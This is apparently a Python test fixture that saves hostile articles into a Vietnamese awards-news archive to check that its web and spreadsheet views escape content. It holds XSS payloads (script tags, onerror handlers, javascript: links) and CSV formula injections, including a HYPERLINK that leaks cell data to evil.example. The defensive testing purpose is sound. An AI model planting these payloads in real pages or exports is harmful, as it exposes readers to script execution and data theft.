"""Articles written to attack the archive's readers: script in titles, javascript: links,
spreadsheet formulas. Our own text; shared by the Datasette and browser tests."""

from khenthuong.archive import Archive

# Each payload, if it ever ran, would set window.pwned.
SCRIPT_TITLE = "<script>window.pwned = 'title'</script>Tin giả mạo kỳ lạ"
IMG_TITLE = "<img src=x onerror=\"window.pwned = 'img'\">Ảnh độc hại kỳ lạ"
FORMULA_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây kỳ lạ")'
HOSTILE_ARTICLES = [
    {
        "url": "https://baotest.example/gia-mao-3900001.html",
        "title": SCRIPT_TITLE,
        "sapo": "<script>window.pwned = 'sapo'</script>Đoạn mở đầu kỳ lạ.",
        "body": (
            "Nội dung có <a href=\"javascript:window.pwned='body'\">liên kết kỳ lạ</a> "
            "và <iframe src=\"javascript:window.pwned='iframe'\"></iframe>."
        ),
    },
    {
        # A canonical URL a hostile page could declare.
        "url": "javascript:window.pwned='url'",
        "title": IMG_TITLE,
        "sapo": "+cmd|' /C calc'!A0 kỳ lạ",
        "body": "@SUM(1+1)*cmd|' /C calc'!A0",
    },
    {
        "url": "https://baotest.example/cong-thuc-3900003.html",
        "title": FORMULA_TITLE,
        "sapo": "-2+3+cmd|' /C calc'!A0",
        "body": "\t=1+1 kỳ lạ",
    },
]
HOSTILE_ANALYSIS = {
    "relevant": True,
    "event": None,
    "awards": [
        {
            "award": "Bằng khen",
            "recipient_kind": "individual",
            "count": 1,
            "status": "conferred",
            "conferrer": "<script>window.pwned = 'conferrer'</script>",
            "recipient": "<img src=x onerror=\"window.pwned = 'recipient'\">",
            "evidence": (
                "=HYPERLINK(\"javascript:window.pwned='evidence'\") kỳ lạ được tặng Bằng khen."
            ),
        }
    ],
}


def save_hostile(archive: Archive, published: str = "2020-01-01T08:00:00+07:00") -> list[int]:
    """Add the hostile articles (old, so they sit below the demo's on newest-first pages)."""
    ids = []
    for row in HOSTILE_ARTICLES:
        article_id, _ = archive.save_article(
            {
                **row,
                "source": None,
                "published": published,
                "province": "Quảng Nam",
                "province_today": "Đà Nẵng",
                "tags": ["<script>window.pwned = 'tag'</script>"],
            }
        )
        ids.append(article_id)
    archive.save_analysis(ids[0], HOSTILE_ANALYSIS, score=9.0)
    return ids
